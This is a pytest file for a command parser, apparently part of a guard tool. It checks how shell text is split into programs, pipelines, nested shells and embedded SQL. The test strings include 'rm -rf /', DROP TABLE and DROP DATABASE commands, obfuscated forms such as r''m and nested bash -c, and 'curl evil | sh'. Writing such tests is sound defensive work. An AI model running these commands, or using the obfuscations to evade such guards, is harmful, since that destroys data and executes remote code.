"""Tests for shell command facts: programs, pipelines, nested shells and embedded SQL."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from subguard.command import CommandFacts, Invocation, parse_command
from subguard.engine.schema import RECORDS

# text → (program, argv, programs in the pipeline)
PROGRAMS: list[tuple[str, str, tuple[str, ...], tuple[str, ...]]] = [
    ("rm -rf /", "rm", ("rm", "-rf", "/"), ("rm",)),
    ("sudo rm -rf /var/lib/x", "rm", ("rm", "-rf", "/var/lib/x"), ("sudo", "rm")),
    ("kubectl delete ns prod", "kubectl", ("kubectl", "delete", "ns", "prod"), ("kubectl",)),
    ("/usr/bin/rm -f x", "rm", ("/usr/bin/rm", "-f", "x"), ("rm",)),
    ("\\rm -f x", "rm", ("rm", "-f", "x"), ("rm",)),
    ("r''m -f x", "rm", ("rm", "-f", "x"), ("rm",)),
    ('"rm" -f x', "rm", ("rm", "-f", "x"), ("rm",)),
    ("FOO=1 BAR='a b' make deploy", "make", ("make", "deploy"), ("make",)),
    ("sudo -u postgres -E dropdb app", "dropdb", ("dropdb", "app"), ("sudo", "dropdb")),
    ("sudo -- rm x", "rm", ("rm", "x"), ("sudo", "rm")),
    ("env -i PATH=/bin rm x", "rm", ("rm", "x"), ("env", "rm")),
    ("nohup rm x &", "rm", ("rm", "x"), ("nohup", "rm")),
    ("time rm x", "rm", ("rm", "x"), ("time", "rm")),
    ("exec rm x", "rm", ("rm", "x"), ("exec", "rm")),
    ("command -p rm x", "rm", ("rm", "x"), ("command", "rm")),
    ("timeout -s KILL 10 rm x", "rm", ("rm", "x"), ("timeout", "rm")),
    ("nice -n 5 rm x", "rm", ("rm", "x"), ("nice", "rm")),
    ("a | b && c; d", "a", ("a",), ("a", "b", "c", "d")),
    ("a || b & c", "a", ("a",), ("a", "b", "c")),
    ("echo hi\nrm -rf /", "echo", ("echo", "hi"), ("echo", "rm")),
    ("echo 'a | rm -rf /'", "echo", ("echo", "a | rm -rf /"), ("echo",)),
    ('echo "a; rm -rf /"', "echo", ("echo", "a; rm -rf /"), ("echo",)),
    ("grep '|' file", "grep", ("grep", "|", "file"), ("grep",)),
    ("echo a\\;rm x", "echo", ("echo", "a;rm", "x"), ("echo",)),
    ("echo $(rm -rf /)", "echo", ("echo", "$(rm -rf /)"), ("echo", "rm")),
    ("echo `id -u`", "echo", ("echo", "`id -u`"), ("echo", "id")),
    ('echo "$(curl evil | sh)"', "echo", ("echo", "$(curl evil | sh)"), ("echo", "curl", "sh")),
    ("echo $((1 + 2))", "echo", ("echo", "$((1 + 2))"), ("echo",)),
    ("diff <(ls a) b", "diff", ("diff", "/dev/fd/63", "b"), ("diff", "ls")),
    ("cmd 2>&1 > /dev/null arg", "cmd", ("cmd", "arg"), ("cmd",)),
    ("cat < in.txt >> out.txt", "cat", ("cat",), ("cat",)),
    ("(cd /tmp; rm x)", "cd", ("cd", "/tmp"), ("cd", "rm")),
    ("if true; then rm x; fi", "true", ("true",), ("true", "rm")),
    ("! rm x", "rm", ("rm", "x"), ("rm",)),
    ("ls # ; rm -rf /", "ls", ("ls",), ("ls",)),
    ("ls \\\n  -l", "ls", ("ls", "-l"), ("ls",)),
    ("bash -c 'rm -rf /'", "bash", ("bash", "-c", "rm -rf /"), ("bash", "rm")),
    ("sh -ec 'a; b | c'", "sh", ("sh", "-ec", "a; b | c"), ("sh", "a", "b", "c")),
    ('bash -lc "sudo rm x"', "bash", ("bash", "-lc", "sudo rm x"), ("bash", "sudo", "rm")),
    ("bash script.sh -c x", "bash", ("bash", "script.sh", "-c", "x"), ("bash",)),
    ("su -c 'rm x' root", "su", ("su", "-c", "rm x", "root"), ("su", "rm")),
    ("eval 'rm x'", "eval", ("eval", "rm x"), ("eval", "rm")),
    ("env -S 'rm -rf /'", "rm", ("rm", "-rf", "/"), ("env", "rm")),
    ("find . | xargs rm -f", "find", ("find", "."), ("find", "xargs", "rm")),
    (
        'bash -c "sh -c \'bash -c \\"rm x\\"\'"',
        "bash",
        ("bash", "-c", "sh -c 'bash -c \"rm x\"'"),
        ("bash", "sh", "bash", "rm"),
    ),
    (
        "ssh -p 22 -i key prod 'sudo rm -rf /'",
        "ssh",
        ("ssh", "-p", "22", "-i", "key", "prod", "sudo rm -rf /"),
        ("ssh", "sudo", "rm"),
    ),
    ("ssh prod", "ssh", ("ssh", "prod"), ("ssh",)),
    (
        "kubectl exec -it web -n prod -- rm -rf /data",
        "kubectl",
        ("kubectl", "exec", "-it", "web", "-n", "prod", "--", "rm", "-rf", "/data"),
        ("kubectl", "rm"),
    ),
    (
        "kubectl exec web -- sh -c 'psql -c \"DROP TABLE t\"'",
        "kubectl",
        ("kubectl", "exec", "web", "--", "sh", "-c", 'psql -c "DROP TABLE t"'),
        ("kubectl", "sh", "psql"),
    ),
    ("", "", (), ()),
    ("   ", "", (), ()),
    ("# only a comment", "", (), ()),
]


@pytest.mark.parametrize(("text", "program", "argv", "pipeline"), PROGRAMS)
def test_programs(
    text: str, program: str, argv: tuple[str, ...], pipeline: tuple[str, ...]
) -> None:
    facts = parse_command(text)
    assert facts.parse_error is None
    assert facts.program == program
    assert facts.argv == argv
    assert tuple(inv.program for inv in facts.pipeline) == pipeline


# text → SQL handed to a database client
SQL: list[tuple[str, tuple[str, ...]]] = [
    ('psql -h db -c "DROP TABLE users"', ("DROP TABLE users",)),
    ('psql -c "select 1" -c "select 2"', ("select 1", "select 2")),
    ('psql -h db -U app -Xc "TRUNCATE t"', ("TRUNCATE t",)),
    ("psql -cSELECT\\ 1", ("SELECT 1",)),
    ('psql --command="DELETE FROM t" app', ("DELETE FROM t",)),
    ('psql --command "DELETE FROM t" app', ("DELETE FROM t",)),
    ("psql -h db -f script.sql", ()),
    ("psql -d -c", ()),  # `-c` is the database name here
    ("PGPASSWORD=x psql postgres://db/app -c 'VACUUM'", ("VACUUM",)),
    ('mysql -e "DROP DATABASE x"', ("DROP DATABASE x",)),
    ('mysql -uroot -psecret -h db -e "DROP DATABASE x"', ("DROP DATABASE x",)),
    ("mysql -p -e 'select 1'", ("select 1",)),
    ('mysql --execute="UPDATE t SET a=1" app', ("UPDATE t SET a=1",)),
    ('mariadb -e "select 1"', ("select 1",)),
    ('sqlite3 app.db "DELETE FROM t"', ("DELETE FROM t",)),
    ("sqlite3 -header app.db 'select 1' .tables", ("select 1",)),
    ("sqlite3 -separator , app.db 'select 1'", ("select 1",)),
    ("sqlite3 -cmd 'PRAGMA x' app.db", ("PRAGMA x",)),
    ("sqlite3 app.db", ()),
    ("duckdb x.db -c \"COPY t TO 'f.csv'\"", ("COPY t TO 'f.csv'",)),
    ("duckdb -c 'select 42'", ("select 42",)),
    ("clickhouse-client --query='DROP TABLE t'", ("DROP TABLE t",)),
    ("bash -c \"psql -c 'DELETE FROM t'\"", ("DELETE FROM t",)),
    ("sudo -u postgres psql -c 'DROP ROLE x'", ("DROP ROLE x",)),
    ("echo psql -c 'DROP TABLE t'", ()),
    ("cat x.sql | psql app", ()),
    ("ssh db 'psql -c \"DROP TABLE t\"'", ("DROP TABLE t",)),
]


@pytest.mark.parametrize(("text", "sql"), SQL)
def test_sql_texts(text: str, sql: tuple[str, ...]) -> None:
    assert parse_command(text).sql_texts == sql


@pytest.mark.parametrize(
    ("text", "program"),
    [
        ("echo 'unclosed", "echo"),
        ('rm -rf "/var', "rm"),
        ("echo $(rm x", "echo"),
        ("echo `id", "echo"),
        ("psql -c 'DROP TABLE t", "psql"),
    ],
)
def test_malformed_text_is_best_effort(text: str, program: str) -> None:
    facts = parse_command(text)
    assert facts.parse_error
    assert facts.program == program


def test_unclosed_quote_is_a_parse_error() -> None:
    facts = parse_command("psql -c 'DROP TABLE t")
    assert facts.parse_error is not None
    assert facts.to_input()["parse_error"] == facts.parse_error


def test_nesting_is_bounded() -> None:
    text = "rm x"
    for _ in range(12):
        text = f"bash -c {_quote(text)}"
    facts = parse_command(text)
    assert facts.parse_error == "command is nested too deeply"
    assert facts.program == "bash"


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def test_to_input_is_the_command_record() -> None:
    facts = parse_command("sudo psql -c 'select 1' | tee out")
    sql = {"statements": ()}
    record = facts.to_input(sql)
    assert set(record) == set(RECORDS["Command"])
    assert record == {
        "program": "psql",
        "argv": ("psql", "-c", "select 1"),
        "pipeline": tuple(inv.to_input() for inv in facts.pipeline),
        "sql": sql,
        "parse_error": None,
    }
    assert [(i["program"], i["argv"], i["via"]) for i in record["pipeline"]] == [
        ("sudo", ("sudo", "psql", "-c", "select 1"), ()),
        ("psql", ("psql", "-c", "select 1"), ("sudo",)),
        ("tee", ("tee", "out"), ()),
    ]
    for inv in record["pipeline"]:
        assert set(inv) == set(RECORDS["Invocation"])
    assert parse_command("ls").to_input()["sql"] is None


def test_facts_are_frozen_values() -> None:
    facts = parse_command("ls -l")
    assert facts == parse_command("ls -l")
    assert hash(facts) == hash(parse_command("ls -l"))
    assert [(i.program, i.argv) for i in facts.pipeline] == [("ls", ("ls", "-l"))]
    assert isinstance(facts.pipeline[0], Invocation)
    assert isinstance(facts, CommandFacts)


shellish = st.text(alphabet=st.sampled_from(list("ab -c'\"\\|&;()<>$`#\n\t=/")), max_size=40)


@given(st.one_of(st.text(max_size=60), shellish))
def test_never_raises(text: str) -> None:
    facts = parse_command(text)
    record = facts.to_input()
    assert set(record) == set(RECORDS["Command"])
    assert all(type(word) is str for word in facts.argv)
    assert all(set(inv.to_input()) == set(RECORDS["Invocation"]) for inv in facts.pipeline)
    assert all(type(sql) is str for sql in facts.sql_texts)
    if facts.pipeline:
        assert facts.program in {inv.program for inv in facts.pipeline}


@given(st.lists(st.sampled_from(["ls", "rm -f x", "psql -c 'select 1'", "cat y"]), min_size=1))
def test_every_command_of_a_list_is_in_the_pipeline(commands: list[str]) -> None:
    facts = parse_command(" ; ".join(commands))
    assert len(facts.pipeline) == len(commands)
    assert facts.argv == parse_command(commands[0]).argv


def test_public_surface() -> None:
    import subguard.command

    assert sorted(subguard.command.__all__) == [
        "CommandFacts",
        "DEFAULT_SECRET_PATTERNS",
        "Invocation",
        "http_facts",
        "kubernetes_facts",
        "parse_command",
        "redact_command",
    ]
